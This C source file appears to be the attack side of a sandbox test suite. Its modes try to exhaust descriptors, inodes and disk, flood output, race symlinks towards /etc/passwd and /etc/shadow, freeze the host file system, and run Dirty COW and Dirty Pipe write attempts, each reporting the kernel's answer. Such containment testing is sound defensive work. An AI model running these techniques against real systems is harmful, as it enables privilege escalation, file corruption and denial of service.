/* Files and output: more than fits, other than they seem, and too many. */
#include "attack.h"
#include <linux/fs.h>
#include <pthread.h>
#include <sys/file.h>
#include <sys/ioctl.h>

static void descriptors(int argc, char **argv) {
  long count = 0;
  while (open("/dev/null", O_RDONLY) >= 0) count++;
  int error = errno;
  dup2(1, 1);
  close(5);
  say("opened: %s", error_name(error));
  say("count: %ld", count);
}

static void inodes(int argc, char **argv) {
  long count = 0;
  char path[64];
  for (;; count++) {
    snprintf(path, sizeof path, "%s/f\n\xff%ld", argv[0], count); /* names may be anything */
    int fd = open(path, O_CREAT | O_WRONLY, 0600);
    if (fd < 0) break;
    close(fd);
  }
  say("inodes: %s after %s", error_name(errno), count < 70000 ? "some" : "too many");
}

static void disk(int argc, char **argv) {
  static char block[MIB];
  long written = 0;
  int fd = open("full", O_CREAT | O_WRONLY, 0600), other = open(".", O_TMPFILE | O_RDWR, 0600);
  for (ssize_t n; (n = write(fd, block, sizeof block)) > 0;) written += n;
  say("file: %s", error_name(errno));
  for (ssize_t n; (n = write(other, block, sizeof block)) > 0;) written += n;
  say("unnamed file: %s", error_name(errno));
  attempt("fallocate", fallocate(other, 0, 0, 40 * MIB));
  say("written: %ld MiB", written / MIB);
}

/* As much as can be, on both. */
static void flood(int argc, char **argv) {
  static char block[65536];
  memset(block, 'x', sizeof block);
  fork();
  for (int i = 0;; i++) if (write(1 + i % 2, block, sizeof block) < 0) _exit(1);
}

/* Single bytes, in turns: each is a message of its own to whoever reads. */
static void drip(int argc, char **argv) {
  for (long i = 0;; i++) if (write(1 + i % 2, "x", 1) < 0) _exit(1);
}

/* Never a line's end, or nothing but. */
static void lines(int argc, char **argv) {
  static char block[65536];
  memset(block, '\n', sizeof block);
  for (;;) if (write(1, block, sizeof block) < 0) _exit(1);
}

/* Reads its own output back and hands the pipes on, so that they are never at their end. */
static void thief(int argc, char **argv) {
  int in = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK);
  say("own output: %s", in >= 0 ? "opened" : error_name(errno));
  for (int i = 0; i < 20; i++) {
    if (fork() == 0) {
      setsid();
      for (;;) pause();
    }
  }
  fcntl(1, F_SETPIPE_SZ, 4096);
  fcntl(1, F_SETFL, O_NONBLOCK | O_ASYNC | O_DIRECT);
  say("end");
}

/* A directory's name is now the directory, now a link out of the workspace; all the time, also at the end. */
static void *swap(void *ignored) {
  for (;;) {
    rename("dir", "real");
    symlink("/etc", "dir");
    unlink("dir");
    rename("real", "dir");
    symlink("/etc/passwd", "file.new");
    rename("file.new", "file");
    int fd = open("file.new", O_CREAT | O_WRONLY, 0600);
    if (write(fd, "own", 3) < 0) _exit(1);
    close(fd);
    rename("file.new", "file");
  }
  return NULL;
}
static void race(int argc, char **argv) {
  mkdir("dir", 0755);
  int fd = open("dir/passwd", O_CREAT | O_WRONLY, 0600);
  if (write(fd, "own", 3) < 0) _exit(1);
  fd = open("dir/shadow", O_CREAT | O_WRONLY, 0600);
  if (write(fd, "own", 3) < 0) _exit(1);
  for (int i = 0; i < 3; i++) {
    if (fork() != 0) continue;
    prctl(PR_SET_PDEATHSIG, 0);
    signal(SIGTERM, SIG_IGN);
    setsid();
    swap(NULL);
  }
  doze(20 + getpid() % 17);
  say("racing");
}

static void odd(int argc, char **argv) {
  attempt("hard link of a host file", link("/etc/passwd", "hard"));
  attempt("hard link of the guest", linkat(AT_FDCWD, "/.stoker/guest", AT_FDCWD, "hard", 0));
  attempt("hard link through /proc", linkat(AT_FDCWD, "/proc/1/exe", AT_FDCWD, "hard", AT_SYMLINK_FOLLOW));
  say("fifo: %s", mkfifo("fifo", 0666) == 0 ? "made" : error_name(errno));
  say("whiteout: %s", mknod("whiteout", S_IFCHR | 0666, 0) == 0 ? "made" : error_name(errno));
  int fd = open("sparse", O_CREAT | O_WRONLY, 0600);
  say("sparse: %s", ftruncate(fd, 60 * MIB) == 0 ? "made" : error_name(errno));
  fd = open("big", O_CREAT | O_WRONLY, 0600);
  say("big: %s", ftruncate(fd, 12 * MIB) == 0 ? "made" : error_name(errno));
  fd = open("big2", O_CREAT | O_WRONLY, 0600);
  say("big2: %s", ftruncate(fd, 12 * MIB) == 0 ? "made" : error_name(errno));
  say("links: %d", symlink("/etc/shadow", "link") + symlink("/proc/self/environ", "environ") + symlink("..", "up") +
      symlink("loop", "loop") + symlink("/dev/zero", "zero") + symlink("/proc/1/fd/0", "guest-link"));
  struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "socket"};
  say("socket: %s", bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&name, sizeof name) == 0 ? "made" : error_name(errno));
  fd = open("locked", O_CREAT | O_RDWR, 0600);
  if (write(fd, "locked", 6) < 0 || fchmod(fd, 0) < 0) _exit(1);
  fd = open("leased", O_CREAT | O_RDWR, 0600);
  say("lease: %s", write(fd, "leased", 6) == 6 && fcntl(fd, F_SETLEASE, F_WRLCK) == 0 ? "taken" : error_name(errno));
  mkdir("closed", 0);
  fd = open("good", O_CREAT | O_RDWR, 0600);
  if (write(fd, "good", 4) < 0) _exit(1);
}

/* Deeper than any path is long; closed directories; many names. */
static void deep(int argc, char **argv) {
  int depth = 0, at = open(".", O_RDONLY | O_DIRECTORY);
  static const char name[] = "a-directory-with-a-name-that-is-not-short-so-that-paths-become-long-soon-dddddddddddddddddd";
  for (; depth < 3000; depth++) {
    if (mkdirat(at, name, 0700) < 0) break;
    int next = openat(at, name, O_RDONLY | O_DIRECTORY);
    if (next < 0) break;
    int fd = openat(next, "f", O_CREAT | O_WRONLY, 0);
    if (fd >= 0) close(fd);
    close(at);
    at = next;
  }
  say("deep: %s", depth > 500 ? "enough" : error_name(errno));
  mkdir("closed", 0700);
  mkdir("closed/in", 0700);
  chmod("closed/in", 0);
  chmod("closed", 0);
}

static void outside(int argc, char **argv) {
  static const char *const places[] = {"/", "/usr", "/etc", "/dev", "/proc", "/.stoker", "/root", "/run", "/sys"};
  char name[64];
  for (size_t i = 0; i < sizeof places / sizeof *places; i++) {
    snprintf(name, sizeof name, "unnamed file in %s", places[i]);
    attempt(name, open(places[i], O_TMPFILE | O_RDWR, 0600));
    snprintf(name, sizeof name, "chmod %s", places[i]);
    attempt(name, chmod(places[i], 0777));
    snprintf(name, sizeof name, "times of %s", places[i]);
    attempt(name, utimensat(AT_FDCWD, places[i], NULL, 0));
  }
  attempt("chmod device", chmod("/dev/null", 0600));
  attempt("remove device", unlink("/dev/null"));
  attempt("mkdir ../", mkdir("../stoker-attack-mark", 0700));
  int fd = open("/usr/bin/env", O_RDONLY);
  attempt("lease on a host file", fcntl(fd, F_SETLEASE, F_RDLCK));
  attempt("freeze the host's file system", ioctl(fd, FIFREEZE, 0));
  attempt("trim the host's file system", ioctl(fd, FITRIM, (uint64_t[3]){0, 1, 0}));
  int flags = FS_IMMUTABLE_FL;
  attempt("immutable", ioctl(fd, FS_IOC_SETFLAGS, &flags));
  attempt("sync the host's file system", syscall(SYS_syncfs, fd));
  fd = memfd_create("program", 0);
  int self = open("/proc/self/exe", O_RDONLY);
  static char block[MIB];
  for (ssize_t n; (n = read(self, block, sizeof block)) > 0;) if (write(fd, block, (size_t)n) < 0) break;
  char path[32];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  execl(path, "set-id", "identity", NULL); /* allowed: it gains nothing */
  attempt("exec of a memfd", -1);
}

/* What would make the host's disk write out what it holds. With no file at all, so EBADF is the kernel's answer. */
static void flushes(int argc, char **argv) {
  say("fsync: %s", syscall(SYS_fsync, -1) == 0 ? "not the kernel's" : error_name(errno));
  say("fdatasync: %s", syscall(SYS_fdatasync, -1) == 0 ? "not the kernel's" : error_name(errno));
  say("msync: %s", syscall(SYS_msync, 4096, 4096, MS_SYNC) == 0 ? "not the kernel's" : error_name(errno));
  say("advice: %s", syscall(SYS_fadvise64, -1, 0, 0, POSIX_FADV_DONTNEED) == 0 ? "not the kernel's" : error_name(errno));
  say("other advice: %s", posix_fadvise(0, 0, 0, POSIX_FADV_SEQUENTIAL) == 0 ? "fine" : "refused");
  int fd = open("own", O_CREAT | O_RDWR, 0600);
  say("own file: %s", write(fd, "x", 1) == 1 && fsync(fd) == 0 ? "fine" : error_name(errno));
  attempt("sync", syscall(SYS_sync));
}

/* Pages of a host file that is only read: by a private mapping and /proc/self/mem (CVE-2016-5195), and by a pipe whose
   buffers look as if they could be written to (CVE-2022-0847). */
static void dirty(int argc, char **argv) {
  char before[64], after[64];
  int fd = open(argv[0], O_RDONLY), ends[2];
  if (fd < 0 || pread(fd, before, sizeof before, 64) != sizeof before) _exit(2);
  char *at = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  int mem = open("/proc/self/mem", O_RDWR);
  for (int i = 0; i < 1000; i++) {
    if (pwrite(mem, "STOKER", 6, (off_t)(uintptr_t)at + 64) < 0) break;
    madvise(at, 4096, MADV_DONTNEED);
  }
  static char block[4096];
  if (pipe(ends) == 0) {
    long size = fcntl(ends[1], F_GETPIPE_SZ);
    for (long i = 0; i < size; i += 4096) if (write(ends[1], block, 4096) < 0) break;
    for (long i = 0; i < size; i += 4096) if (read(ends[0], block, 4096) < 0) break;
    loff_t offset = 64;
    if (splice(fd, &offset, ends[1], NULL, 1, 0) == 1 && write(ends[1], "STOKER", 6) < 0) _exit(3);
  }
  char *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  attempt("shared writable mapping", shared == MAP_FAILED ? -1 : 0);
  shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  attempt("made writable", mprotect(shared, 4096, PROT_READ | PROT_WRITE));
  if (pread(fd, after, sizeof after, 64) != sizeof after) _exit(4);
  say("file: %s", memcmp(before, after, sizeof after) == 0 ? "as it was" : "DID IT");
}

static void identity(int argc, char **argv) {
  say("uid: %d", geteuid());
  say("new privileges: %d", !prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
}

int main(int argc, char **argv) {
  static const struct mode modes[] = {
    {"descriptors", descriptors}, {"inodes", inodes}, {"disk", disk}, {"flood", flood}, {"drip", drip},
    {"lines", lines}, {"thief", thief}, {"race", race}, {"odd", odd}, {"deep", deep}, {"outside", outside},
    {"identity", identity}, {"flushes", flushes}, {"dirty", dirty}, {NULL, NULL}
  };
  return choose(modes, argc, argv);
}
